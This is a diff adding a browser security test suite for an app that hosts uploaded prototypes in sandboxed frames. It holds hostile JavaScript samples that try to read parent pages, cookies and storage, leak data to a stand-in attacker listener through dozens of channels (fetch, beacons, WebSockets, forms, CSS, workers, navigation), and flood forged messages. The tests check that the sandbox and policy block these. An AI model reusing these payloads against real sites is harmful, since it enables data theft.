@@ -1,0 +1,524 @@
+"""An uploaded prototype that attacks, in a real browser: nothing of ours is read, nothing leaves.
+
+Beside it stands a control: the same files without our headers and frame, which must get through.
+"""
+
+import logging
+import threading
+from collections.abc import Callable, Iterable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field, replace
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Frame, Page
+from sqlalchemy import select
+from werkzeug.serving import BaseWSGIServer, make_server
+
+from codesign import migrations
+from codesign.app import create_app
+from codesign.db import Database
+from codesign.demo import DEMO_PASSWORD, seed_demo
+from codesign.people.passwords import hash_password
+from codesign.projects.models import Project
+from codesign.prototypes import hosting
+from codesign.prototypes.embedding import SANDBOX
+from codesign.settings import Settings
+from tests.browser.conftest import DESK, PHONE, Visitor
+from tests.bundles import FILES, bundle
+
+
+def page_with(inside: str) -> bytes:
+    return (
+        '<!doctype html><html lang="sv"><head><meta charset="utf-8"><title>Exempel</title></head>'
+        f"<body><h1>Exempel</h1>{inside}</body></html>"
+    ).encode()
+
+
+def page_script(script: str) -> str:
+    return f"<script>{script}</script>"
+
+
+READS = """
+const report = {};
+const look = (name, act) => {
+  try { const found = act(); report[name] = found === undefined ? "nothing" : String(found); }
+  catch (error) { report[name] = "refused"; }
+};
+look("parent page", () => parent.document.body.innerHTML);
+look("parent address", () => parent.location.href);
+look("top address", () => top.location.href);
+look("parent variable", () => parent.secret);
+look("frame element", () => frameElement && frameElement.src);
+look("cookies", () => document.cookie);
+look("cookies set", () => { document.cookie = "a=b; path=/"; return document.cookie; });
+look("local storage", () => localStorage.length);
+look("session storage", () => sessionStorage.length);
+look("database", () => indexedDB.open("x"));
+look("caches", () => caches.keys && "caches");
+look("worker for the whole site", () => navigator.serviceWorker.register("sw.js"));
+look("origin", () => self.origin);
+look("referrer", () => document.referrer);
+look("opener", () => opener);
+window.report = report;
+"""
+
+SENDS = """
+const away = (name) => LISTENER + "/" + name;
+const attempt = (act) => {
+  try { Promise.resolve(act()).catch(() => {}); } catch (error) { /* refused */ }
+};
+const add = (tag, values, inside = "") => attempt(() => {
+  const made = Object.assign(document.createElement(tag), {});
+  for (const [name, value] of Object.entries(values)) made.setAttribute(name, value);
+  made.innerHTML = inside;
+  document.body.append(made);
+  return made;
+});
+attempt(() => fetch(away("fetch")));
+attempt(() => fetch(away("fetch-no-cors"), { mode: "no-cors", method: "POST", body: "x" }));
+attempt(() => fetch(away("keepalive"), { mode: "no-cors", keepalive: true }));
+attempt(() => fetch(APP + "/arbete", { credentials: "include", mode: "no-cors" }));
+attempt(() => { const x = new XMLHttpRequest(); x.open("GET", away("xhr")); x.send(); });
+attempt(() => { const x = new XMLHttpRequest(); x.open("GET", away("sync"), false); x.send(); });
+attempt(() => navigator.sendBeacon(away("beacon"), "x"));
+attempt(() => new WebSocket(away("websocket").replace("http", "ws")));
+attempt(() => new EventSource(away("events")));
+attempt(() => { new Image().src = away("image"); });
+attempt(() => new FontFace("away", `url(${away("fontface")})`).load());
+attempt(() => new Audio(away("audio-object")).play());
+attempt(() => new Worker(away("worker")));
+attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${away("blob-worker")}")`]))));
+attempt(() => new SharedWorker(away("shared-worker")));
+attempt(() => import(away("import")));
+attempt(() => CSS.paintWorklet && CSS.paintWorklet.addModule(away("worklet")));
+attempt(() => new WebTransport(away("transport").replace("http:", "https:")));
+for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest",
+  "prerender", "dns-prefetch", "search", "alternate stylesheet", "apple-touch-icon"]) {
+  add("link", { rel, href: away("link-" + rel.replace(" ", "-")), as: "image" });
+}
+add("script", { src: away("script") });
+add("script", { type: "speculationrules" });
+attempt(() => {
+  const rules = document.createElement("script");
+  rules.type = "speculationrules";
+  const list = { source: "list", urls: [away("speculation")] };
+  rules.textContent = JSON.stringify({ prefetch: [list] });
+  document.head.append(rules);
+});
+add("iframe", { src: away("iframe") });
+add("iframe", { srcdoc: `<img src="${away("srcdoc")}">` });
+add("object", { data: away("object") });
+add("embed", { src: away("embed") });
+add("video", { src: away("video"), autoplay: "", poster: away("poster") });
+add("audio", { src: away("audio"), preload: "auto" });
+add("video", {}, `<track default kind="captions" src="${away("track")}">`);
+add("picture", {}, `<source srcset="${away("srcset")}"><img src="${away("picture")}">`);
+add("div", { style: `background: url(${away("style-attribute")})` });
+add("style", {}, `@import url(${away("import-css")}); @font-face { font-family: z; src:
+  url(${away("font-css")}); } p { font-family: z; background: url(${away("css")}); cursor:
+  url(${away("cursor")}), auto; list-style-image: url(${away("bullet")}); }`);
+add("p", {}, "text");
+add("div", {}, `<svg><image href="${away("svg-image")}"/><use href="${away("svg-use")}#a"/></svg>`);
+add("input", { type: "image", src: away("input-image") });
+add("base", { href: LISTENER + "/base/" });
+add("img", { src: "relative-to-base.png" });
+add("meta", { "http-equiv": "refresh", content: `5;url=${away("meta-refresh")}` });
+const send = (method, target) => attempt(() => {
+  const form = document.createElement("form");
+  Object.assign(form, { method, target, action: away(`form-${method}${target}`) });
+  document.body.append(form);
+  form.submit();
+});
+for (const target of ["_top", "_blank", "_parent"]) send("get", target);
+for (const target of ["_blank", "_top", "_parent"]) {
+  attempt(() => {
+    const link = document.createElement("a");
+    Object.assign(link, { href: away("link" + target), target, ping: away("ping" + target) });
+    document.body.append(link);
+    link.click();
+  });
+}
+attempt(() => window.open(away("popup")));
+attempt(() => { top.location = away("top"); });
+attempt(() => { parent.location.href = away("parent"); });
+attempt(() => top.location.replace(away("top-replace")));
+attempt(() => navigator.credentials.get({ identity: { providers: [{ configURL: away("fedcm"),
+  clientId: "x" }] } }));
+attempt(() => window.showOpenFilePicker && window.showOpenFilePicker());
+attempt(() => Notification.requestPermission());
+setTimeout(() => { window.isDone = true; }, 1500);
+// What leads the frame itself away ends this script, so it comes last.
+setTimeout(send, 3000, "post", "_self");
+"""
+
+LEAVES = {
+    "adress": page_script("location.href = LISTENER + '/own-location';"),
+    "ersatter": page_script("location.replace(LISTENER + '/own-replace');"),
+    "lank": page_script(
+        "const a = document.createElement('a'); a.href = LISTENER + '/own-link';"
+        "document.body.append(a); a.click();"
+    ),
+    "formular": page_script(
+        "const f = document.createElement('form'); f.action = LISTENER + '/own-form';"
+        "document.body.append(f); f.submit();"
+    ),
+    "pekar": '<meta http-equiv="refresh" content="0;url=LISTENER/own-refresh">',
+}
+"""Pages that lead their own frame away at once."""
+
+MESSAGES = """
+const good = (id) => ({ v: 1, type: "hotspot", id, t: 1 });
+const forged = [
+  null, 7, "text", [], [good("a")], {}, { ...good("a"), extra: 1 }, { ...good("a"), v: 2 },
+  { ...good("a"), type: "script" }, { ...good("a"), type: "constructor" },
+  { ...good("a"), id: "ÅÄÖ" },
+  { ...good("a"), id: "<b>" }, { ...good("a"), id: "a".repeat(65) }, { ...good("a"), id: "" },
+  { ...good("a"), id: "a".repeat(100000) }, { ...good("a"), id: ["a"] }, { ...good("a"), t: NaN },
+  { ...good("a"), t: -1 }, { ...good("a"), t: "1" }, new Map([["v", 1]]), new ArrayBuffer(3000),
+];
+addEventListener("message", (event) => {
+  if (!event.ports[0] || window.stolen) return;
+  window.stolen = event.ports[0];
+  const one = (n) => {
+    if (n < forged.length) {
+      window.stolen.postMessage(forged[n]);
+      setTimeout(one, 70, n + 1);
+      return;
+    }
+    setTimeout(() => {
+      for (let n = 0; n < 1000; n += 1) window.stolen.postMessage(good("flood-" + n));
+      for (let n = 0; n < 200; n += 1) parent.postMessage(good("beside"), "*");
+      window.isDone = true;
+    }, 1200);
+  };
+  one(0);
+});
+parent.postMessage({ v: 1, type: "ready", id: "prototype", t: 0 }, "*");
+"""
+
+
+@dataclass
+class Listener:
+    """A server that somebody hostile has: what reaches it has leaked."""
+
+    requests: list[str] = field(default_factory=list)
+    port: int = 0
+
+    def __call__(self, environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
+        self.requests.append(f"{environ['REQUEST_METHOD']} {environ['PATH_INFO']}")
+        start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", "0")])
+        return []
+
+    @property
+    def address(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+
+@contextmanager
+def serving(app: Any, port: int = 0) -> Iterator[BaseWSGIServer]:
+    """The application on a port of this machine."""
+    server = make_server("127.0.0.1", port, app, threaded=True)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[Listener]:
+    logging.getLogger("werkzeug").setLevel(logging.WARNING)
+    heard = Listener()
+    with serving(heard) as server:
+        heard.port = server.server_port
+        yield heard
+
+
+@dataclass(frozen=True)
+class Later:
+    """An application that is made when its port is known."""
+
+    made: dict[str, Any]
+    name: str
+
+    def __call__(self, environ: dict[str, Any], start_response: Any) -> Any:
+        return self.made[self.name](environ, start_response)
+
+
+@dataclass(frozen=True)
+class Stage:
+    """Our application and its second host, with prototypes of an attacker in a project."""
+
+    address: str
+    host: str
+    project: str
+
+    def look_at(self, prototype: str) -> str:
+        return f"/projekt/{self.project}/prototyp/{prototype}/v1/uppladdad?lang=sv"
+
+
+def constants(listener: str, app: str) -> str:
+    return f"const LISTENER = '{listener}'; const APP = '{app}';"
+
+
+def page_with_listener(inside: str, listener: str) -> str:
+    return inside.replace("LISTENER + '", f"'{listener}").replace("LISTENER", listener)
+
+
+@pytest.fixture(scope="module")
+def stage(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Iterator[Stage]:
+    folder = tmp_path_factory.mktemp("hosted")
+    settings = Settings(
+        database_url=f"sqlite:///{folder / 'demo.sqlite3'}",
+        secret_key=b"0123456789abcdef0123456789abcdef",
+        trusted_hosts=("127.0.0.1",),
+        data_dir=folder,
+        demo=True,
+    )
+    database = Database(settings.database_url)
+    migrations.upgrade(database.engine)
+    later: dict[str, Any] = {}
+    with (
+        serving(Later(later, "app")) as ours,
+        serving(Later(later, "host")) as theirs,
+    ):
+        app_address = f"http://127.0.0.1:{ours.server_port}"
+        attacks = {
+            "laser": page_script(READS),
+            "skickar": page_script(constants(listener.address, app_address) + SENDS),
+            "tjatar": page_script(MESSAGES),
+            **{
+                name: page_with_listener(inside, listener.address)
+                for name, inside in LEAVES.items()
+            },
+        }
+        with database.unit() as session:
+            seed_demo(session, hash_password(DEMO_PASSWORD))
+            project = session.scalars(select(Project).order_by(Project.id).limit(1)).one()
+            bundle(session, project, FILES)
+            for slug, inside in attacks.items():
+                bundle(session, project, {"index.html": page_with(inside)}, slug)
+            slug = project.slug
+        named = replace(settings, prototype_host=f"127.0.0.1:{theirs.server_port}")
+        later["app"] = create_app(named)
+        later["host"] = hosting.by_host(named, lambda: database, hosting.nothing)
+        yield Stage(app_address, f"http://{named.prototype_host}", slug)
+    later["app"].extensions["database"].engine.dispose()
+    database.engine.dispose()
+
+
+@pytest.fixture
+def page(chromium: Browser, stage: Stage) -> Iterator[Page]:
+    context = chromium.new_context(viewport=DESK, locale="sv-SE")
+    context.set_default_timeout(15_000)
+    opened = context.new_page()
+    opened.goto(f"{stage.address}/logga-in?lang=sv")
+    opened.fill("input[name=email]", "astrid@demo.example")
+    opened.fill("input[name=password]", DEMO_PASSWORD)
+    opened.click("main form button:not([type=button])")
+    opened.wait_for_url("**/arbete**")
+    yield opened
+    context.close()
+
+
+def inside(page: Page, host: str) -> Frame:
+    """The prototype's own page."""
+    for _ in range(100):
+        found = [frame for frame in page.frames if frame.url.startswith(host)]
+        if found:
+            return found[0]
+        page.wait_for_timeout(100)
+    raise AssertionError(f"no frame of {host}: {[frame.url for frame in page.frames]}")
+
+
+def wait_in(place: Page | Frame, expression: str) -> None:
+    """Wait by asking again and again: our policy forbids what Playwright's own waiting needs."""
+    page = place if isinstance(place, Page) else place.page
+    for _ in range(100):
+        if place.evaluate(expression):
+            return
+        page.wait_for_timeout(100)
+    raise AssertionError(f"{expression} never came true")
+
+
+def test_a_prototype_works_with_its_own_scripts_and_styles(page: Page, stage: Stage) -> None:
+    page.goto(stage.address + stage.look_at("kopet"))
+    frame = inside(page, stage.host)
+    wait_in(frame, "document.body.dataset.ran === 'yes'")
+    assert (
+        frame.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(0, 128, 128)"
+    )
+    frame.locator("#kop").click()
+    frame.locator("a").click()
+    wait_in(page, "document.querySelector('iframe').dataset.taken >= 4")
+    assert page.locator("iframe").get_attribute("data-dropped") == "0"
+
+
+def test_a_prototype_reads_nothing_of_ours(page: Page, stage: Stage) -> None:
+    page.goto(stage.address + stage.look_at("laser"))
+    report = inside(page, stage.host).evaluate("window.report")
+    assert page.context.cookies(stage.address), "the page around has a login to be stolen"
+    assert report.pop("origin") == "null"
+    assert report.pop("referrer") == ""
+    assert report.pop("opener") == "null"
+    assert set(report.values()) <= {"refused", "null", ""}, report
+
+
+def test_the_browser_sends_no_cookie_to_the_second_host(page: Page, stage: Stage) -> None:
+    sent: list[dict[str, str]] = []
+    page.on("request", lambda one: sent.append(one.all_headers()) if "/p/" in one.url else None)
+    page.goto(stage.address + stage.look_at("kopet"))
+    inside(page, stage.host)
+    assert len(sent) >= 3
+    assert not [headers for headers in sent if "cookie" in headers or "referer" in headers]
+
+
+def test_nothing_leaves_a_prototype_over_http(page: Page, stage: Stage, listener: Listener) -> None:
+    listener.requests.clear()
+    page.goto(stage.address + stage.look_at("skickar"))
+    wait_in(inside(page, stage.host), "window.isDone === true")
+    page.wait_for_timeout(4_000)
+    assert listener.requests == []
+    assert page.url.startswith(stage.address), "the page around is where it was"
+    assert len(page.context.pages) == 1, "no window was opened"
+
+
+def test_the_control_without_our_frame_and_headers_leaks(
+    chromium: Browser, stage: Stage, listener: Listener
+) -> None:
+    """The attack is real: the same script, served and framed as any web page, gets through."""
+    attack = page_with(page_script(constants(listener.address, stage.address) + SENDS))
+
+    def plain(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
+        body = b'<iframe src="/attack"></iframe>' if environ["PATH_INFO"] == "/" else attack
+        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
+        return [body]
+
+    listener.requests.clear()
+    with serving(plain) as server:
+        context = chromium.new_context()
+        opened = context.new_page()
+        opened.goto(f"http://127.0.0.1:{server.server_port}/")
+        opened.wait_for_timeout(5_000)
+        context.close()
+    kinds = {request.rsplit("/", 1)[-1] for request in listener.requests}
+    assert {"fetch", "beacon", "image", "css", "websocket", "script", "iframe"} <= kinds
+    assert len(kinds) >= 25, sorted(kinds)
+
+
+def test_the_control_can_read_what_a_prototype_cannot(chromium: Browser) -> None:
+    def plain(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
+        is_top = environ["PATH_INFO"] == "/"
+        body = b"<p>secret</p><iframe src=/a></iframe>" if is_top else page_with(page_script(READS))
+        start_response("200 OK", [("Content-Type", "text/html"), ("Set-Cookie", "a=b; path=/")])
+        return [body]
+
+    with serving(plain) as server:
+        context = chromium.new_context()
+        opened = context.new_page()
+        opened.goto(f"http://127.0.0.1:{server.server_port}/")
+        report = opened.frames[1].evaluate("window.report")
+        context.close()
+    assert "secret" in report["parent page"]
+    assert report["cookies"] == "a=b"
+    assert report["local storage"] == "0"
+
+
+def test_floods_and_forged_messages_are_dropped_and_counted(page: Page, stage: Stage) -> None:
+    page.goto(stage.address + stage.look_at("tjatar"))
+    wait_in(inside(page, stage.host), "window.isDone === true")
+    page.wait_for_timeout(500)
+    counts = page.evaluate("({...document.querySelector('iframe').dataset})")
+    # Ours: one screen, and of the flood at most what a second takes.
+    assert 1 <= int(counts["taken"]) <= 21
+    assert int(counts["dropped"]) >= 21 + 1000 - 21 + 200
+
+
+def test_a_message_from_another_window_is_not_the_prototypes(page: Page, stage: Stage) -> None:
+    page.goto(stage.address + stage.look_at("kopet"))
+    inside(page, stage.host)
+    wait_in(page, "document.querySelector('iframe').dataset.taken === '1'")
+    page.evaluate("postMessage({v: 1, type: 'ready', id: 'prototype', t: 0}, '*')")
+    wait_in(page, "document.querySelector('iframe').dataset.dropped === '1'")
+
+
+def test_the_frame_and_its_page_are_as_narrow_as_can_be(page: Page, stage: Stage) -> None:
+    answer = page.goto(stage.address + stage.look_at("kopet"))
+    assert answer is not None
+    policy = answer.headers["content-security-policy"]
+    assert f"frame-src {stage.host}" in policy
+    frame = page.locator("iframe[data-bundle]")
+    assert frame.get_attribute("sandbox") == SANDBOX == "allow-scripts allow-forms"
+    assert frame.get_attribute("referrerpolicy") == "no-referrer"
+    assert frame.get_attribute("credentialless") == ""
+    page.locator("details summary").click()
+    assert "WebRTC" in page.inner_text("main")
+
+
+def test_a_prototype_is_refused_in_a_frame_of_another_site(
+    chromium: Browser, page: Page, stage: Stage
+) -> None:
+    page.goto(stage.address + stage.look_at("kopet"))
+    address = inside(page, stage.host).url
+
+    def elsewhere(_environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
+        start_response("200 OK", [("Content-Type", "text/html")])
+        return [f'<iframe src="{address}"></iframe>'.encode()]
+
+    with serving(elsewhere) as server:
+        context = chromium.new_context()
+        opened = context.new_page()
+        opened.goto(f"http://127.0.0.1:{server.server_port}/")
+        opened.wait_for_timeout(500)
+        assert urlsplit(opened.frames[1].url).scheme == "chrome-error"
+        context.close()
+
+
+@pytest.mark.parametrize("prototype", LEAVES)
+def test_a_prototype_cannot_lead_its_own_frame_away(
+    page: Page, stage: Stage, listener: Listener, prototype: str
+) -> None:
+    listener.requests.clear()
+    page.goto(stage.address + stage.look_at(prototype))
+    page.wait_for_timeout(1_500)
+    assert listener.requests == []
+    assert page.url.startswith(stage.address)
+    assert not [frame for frame in page.frames if frame.url.startswith(listener.address)]
+
+
+@pytest.mark.parametrize("prototype", LEAVES)
+def test_the_control_leads_its_own_frame_away(
+    chromium: Browser, listener: Listener, prototype: str
+) -> None:
+    attack = page_with(page_with_listener(LEAVES[prototype], listener.address))
+
+    def plain(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
+        body = b'<iframe src="/attack"></iframe>' if environ["PATH_INFO"] == "/" else attack
+        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
+        return [body]
+
+    listener.requests.clear()
+    with serving(plain) as server:
+        context = chromium.new_context()
+        context.new_page().goto(f"http://127.0.0.1:{server.server_port}/")
+        context.pages[0].wait_for_timeout(1_000)
+        context.close()
+    assert [request for request in listener.requests if "/own-" in request]
+
+
+@pytest.mark.parametrize("viewport", [DESK, PHONE], ids=["desk", "phone"])
+def test_the_page_around_is_accessible(
+    chromium: Browser, stage: Stage, viewport: dict[str, int]
+) -> None:
+    context = chromium.new_context(viewport=viewport, locale="sv-SE")
+    visitor = Visitor(context, stage.address)
+    visitor.go(stage.look_at("kopet"))
+    wait_in(visitor.page, "document.querySelector('iframe').dataset.taken >= 1")
+    # Chromium does not know this directive yet, and says so.
+    visitor.faults = [fault for fault in visitor.faults if "directive 'webrtc'" not in fault]
+    visitor.check()
+    assert visitor.has_no_sideways_scroll()
+    context.close()
